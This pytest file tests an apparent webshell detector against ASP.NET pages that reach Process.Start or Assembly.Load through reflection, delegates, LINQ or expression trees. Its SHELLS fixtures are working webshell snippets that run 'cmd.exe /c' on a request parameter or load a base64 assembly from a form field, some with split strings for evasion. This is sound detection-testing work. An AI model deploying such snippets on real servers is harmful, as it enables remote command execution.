"""A method found by reflection and called through a variable (`var m = typeof(T).GetMethod("M");
m.Invoke(...)`), or through a delegate made of it (`Delegate.CreateDelegate`), its type named by
`Type.GetType("...")` or VB's `GetType(T)`: the call is read as `T.M`, as a call
written inline was (docs/detection/webshell-code.md, "Methods built at run time")."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, run, vb_page

SHELLS = [
    (
        "qualified-inline.aspx",
        cs_page(
            'string c = Request.Form["c"];\n'
            'Type.GetType("System.Diagnostics.Pro" + "cess, System").GetMethod("St" + "art", '
            'new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + c });'
        ),
        "EXH-WS-CODE-PROCESS",
        ["form field 'c'", "called by reflection as System.Diagnostics.Process.Start"],
    ),
    (
        "var-invoke.aspx",
        cs_page(
            'byte[] data = Convert.FromBase64String(Request.Form["z"]);\n'
            'var m = typeof(System.Reflection.Assembly).GetMethod("Load", new Type[] { typeof(byte[]) });\n'
            "object a = m.Invoke(null, new object[] { data });"
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'z'", "base64-decodes it", "called by reflection as Assembly.Load"],
    ),
    (
        "vb-inline.aspx",
        vb_page(
            'Dim data As Byte() = Convert.FromBase64String(Request.Form("z"))\n'
            'GetType(System.Reflection.Assembly).GetMethod("Lo" & "ad", New Type() {GetType(Byte())}).Invoke(Nothing, New Object() {data})'
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'z'", "called by reflection as Assembly.Load"],
    ),
    (
        "vb-var.aspx",
        vb_page(
            'Dim m = GetType(System.Diagnostics.Process).GetMethod("Start", New Type() {GetType(String), GetType(String)})\n'
            'm.Invoke(Nothing, New Object() {"cmd.exe", "/c " & Request("c")})'
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "called by reflection as Process.Start"],
    ),
    (
        "delegate.aspx",
        # The type named by a folded string, the method turned into a typed delegate and called.
        cs_page(
            'byte[] data = Convert.FromBase64String(Request.Form["z"]);\n'
            'var mi = Type.GetType("System.Reflection." + "Assembly").GetMethod("Load", new Type[] { typeof(byte[]) });\n'
            "var load = (Func<byte[], System.Reflection.Assembly>)Delegate.CreateDelegate(typeof(Func<byte[], System.Reflection.Assembly>), mi);\n"
            "var asm = load(data);"
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'z'", "called through a delegate made by reflection, as Assembly.Load"],
    ),
    (
        "invokemember.aspx",
        # A static method called by name on a type, without a MethodInfo.
        cs_page(
            'typeof(System.Diagnostics.Process).InvokeMember("St" + "art", System.Reflection.BindingFlags.InvokeMethod'
            " | System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.Public, null, null,"
            ' new object[] { "cmd.exe", "/c " + Request["c"] });'
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "called by reflection as Process.Start"],
    ),
    (
        "expression.aspx",
        # An expression tree calling the reflected method, compiled and run.
        cs_page(
            'var m = typeof(System.Reflection.Assembly).GetMethod("Load", new[] { typeof(byte[]) });\n'
            "var call = System.Linq.Expressions.Expression.Call(m, System.Linq.Expressions.Expression.Constant("
            'Convert.FromBase64String(Request.Form["z"])));\n'
            "var asm = System.Linq.Expressions.Expression.Lambda(call).Compile().DynamicInvoke();"
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'z'", "called from an expression tree compiled at run time, as Assembly.Load"],
    ),
]

# A method picked from its type's list by a test of its name, not looked up by it: LINQ's First
# (after a Where too), Array.Find, VB's lambda, a loop over the methods that stops at the name,
# and a delegate's DynamicInvoke.
INVOKE = '.Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] });'
SHELLS += [
    (
        "linq-first.aspx",
        cs_page(
            "typeof(System.Diagnostics.Process).GetMethods()"
            '.First(m => m.Name == "St" + "art" && m.GetParameters().Length == 2)' + INVOKE
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "called by reflection as Process.Start"],
    ),
    (
        "linq-where.aspx",
        cs_page(
            'var mi = Type.GetType("System.Diagnostics.Process, System").GetMethods()'
            '.Where(x => x.Name.Equals("Start") && x.GetParameters().Length == 2).FirstOrDefault();\nmi' + INVOKE
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "called by reflection as Process.Start"],
    ),
    (
        "array-find.aspx",
        cs_page(
            'var mi = Array.Find(typeof(System.Reflection.Assembly).GetMethods(), m => "Load" == m.Name);\n'
            'mi.Invoke(null, new object[] { Convert.FromBase64String(Request.Form["z"]) });'
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'z'", "called by reflection as Assembly.Load"],
    ),
    (
        "vb-first.aspx",
        vb_page(
            "Dim mi = GetType(System.Diagnostics.Process).GetMethods()"
            '.First(Function(m) m.Name = "Start" AndAlso m.GetParameters().Length = 2)\n'
            'mi.Invoke(Nothing, New Object() {"cmd.exe", "/c " & Request("c")})'
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "called by reflection as Process.Start"],
    ),
    (
        "foreach.aspx",
        cs_page(
            "foreach (var m in typeof(System.Diagnostics.Process).GetMethods()) {\n"
            '  if (m.Name == "Start" && m.GetParameters().Length == 2) { m' + INVOKE + " break; }\n}"
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "called by reflection as Process.Start"],
    ),
    (
        "vb-for-each.aspx",
        vb_page(
            "For Each m In GetType(System.Diagnostics.Process).GetMethods()\n"
            '  If m.Name = "Start" AndAlso m.GetParameters().Length = 2 Then\n'
            '    m.Invoke(Nothing, New Object() {"cmd.exe", "/c " & Request("c")})\n    Exit For\n  End If\nNext'
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "called by reflection as Process.Start"],
    ),
    (
        "dynamic-invoke.aspx",
        cs_page(
            "Delegate d = Delegate.CreateDelegate(typeof(Func<string, System.Diagnostics.Process>), "
            'typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string) }));\n'
            'd.DynamicInvoke(Request["c"]);'
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "called by reflection as Process.Start"],
    ),
]

EXPR = "System.Linq.Expressions.Expression"
SHELLS += [
    (
        "expression-parameter.aspx",
        # An expression tree calling the reflected method with a parameter, compiled into a
        # delegate and called with the request's value.
        cs_page(
            'var mi = typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string) });\n'
            f"var p = {EXPR}.Parameter(typeof(string));\n"
            f"var call = {EXPR}.Call(mi, p);\n"
            f"var run = {EXPR}.Lambda<Func<string, System.Diagnostics.Process>>(call, p).Compile();\n"
            'run(Request["c"]);'
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "as Process.Start"],
    ),
]

BENIGN = [
    (
        "expression-parameter-trim.aspx",
        cs_page(
            'var mi = typeof(string).GetMethod("Trim", Type.EmptyTypes);\n'
            f"var p = {EXPR}.Parameter(typeof(string));\n"
            f"var trim = {EXPR}.Lambda<Func<string, string>>({EXPR}.Call(p, mi), p).Compile();\n"
            'lit.Text = Server.HtmlEncode(trim(Request["q"]));'
        ),
    ),
    (
        "linq-tostring.aspx",
        # A harmless method picked by name, or methods picked by a test that names none.
        cs_page(
            'var mi = typeof(System.Text.StringBuilder).GetMethods().First(m => m.Name == "ToString");\n'
            'lit.Text = Server.HtmlEncode((string)mi.Invoke(new System.Text.StringBuilder(Request["x"]), null));\n'
            "var any = typeof(System.Diagnostics.Process).GetMethods().First(m => m.GetParameters().Length == 0);\n"
            'lit.Text += any.Name + Server.HtmlEncode(Request["y"]);'
        ),
    ),
    (
        "formatter.aspx",
        # A page calling its own formatter found by name, with the visitor's text.
        cs_page(
            'var m = typeof(System.String).GetMethod("Concat", new Type[] { typeof(string), typeof(string) });\n'
            'lit.Text = Server.HtmlEncode((string)m.Invoke(null, new object[] { Request["q"], "!" }));'
        ),
    ),
    (
        "plugin.aspx",
        # The site's own plug-in loaded through a reflected Assembly.Load from bin.
        cs_page(
            'var m = typeof(System.Reflection.Assembly).GetMethod("Load", new Type[] { typeof(byte[]) });\n'
            'var raw = System.IO.File.ReadAllBytes(Server.MapPath("~/bin/Reports.dll"));\n'
            "var a = (System.Reflection.Assembly)m.Invoke(null, new object[] { raw });\n"
            "lit.Text = a.GetName().Name;"
        ),
    ),
    (
        "expression-trim.aspx",
        # An expression tree over a harmless string method, given the visitor's text.
        cs_page(
            'var m = typeof(string).GetMethod("Trim", Type.EmptyTypes);\n'
            "var call = System.Linq.Expressions.Expression.Call("
            'System.Linq.Expressions.Expression.Constant(Request["q"] ?? ""), m);\n'
            "lit.Text = Server.HtmlEncode((string)System.Linq.Expressions.Expression.Lambda(call).Compile().DynamicInvoke());"
        ),
    ),
    (
        "invokemember-prop.aspx",
        # A property of the page's own type read by the name the visitor picks.
        cs_page(
            'lit.Text = Server.HtmlEncode(Convert.ToString(typeof(System.DateTime).InvokeMember(Request["p"], System.Reflection.BindingFlags.GetProperty | System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.Public, null, null, null)));'
        ),
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_reflected_call_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_reflected_call(name: str, code: str) -> None:
    assert_benign(name, code)


def test_a_variable_set_to_another_method_is_not_taken_for_it() -> None:
    # `m` is set to a harmless method: its Invoke is reflection only, never Assembly.Load.
    code = SHELLS[0][1].replace(
        'typeof(System.Reflection.Assembly).GetMethod("Load"', 'typeof(System.Text.Encoding).GetMethod("GetString"'
    )
    rules = [c.rule_id for c in run("other.aspx", code).capabilities]
    assert "EXH-WS-CODE-ASSEMBLY" not in rules and "EXH-WS-CODE-REFLECTION" in rules


@pytest.mark.parametrize(
    "made",
    [
        'Activator.CreateInstance("System", "System.Diagnostics." + "Process").Unwrap()',
        'AppDomain.CurrentDomain.CreateInstanceAndUnwrap("System, Version=4.0.0.0", "System.Diagnostics.Process")',
    ],
    ids=["activator-unwrap", "appdomain-unwrap"],
)
def test_an_object_made_by_its_assembly_and_type_names_is_of_that_type(made: str) -> None:
    # Made from two names and used through `dynamic`: its `Start` is the process's.
    code = cs_page(
        f"dynamic p = {made};\n"
        'p.StartInfo.FileName = "cmd.exe";\np.StartInfo.Arguments = "/c " + Request["c"];\np.Start();'
    )
    assert_found("made.aspx", code, "EXH-WS-CODE-PROCESS", ["request parameter 'c'"])
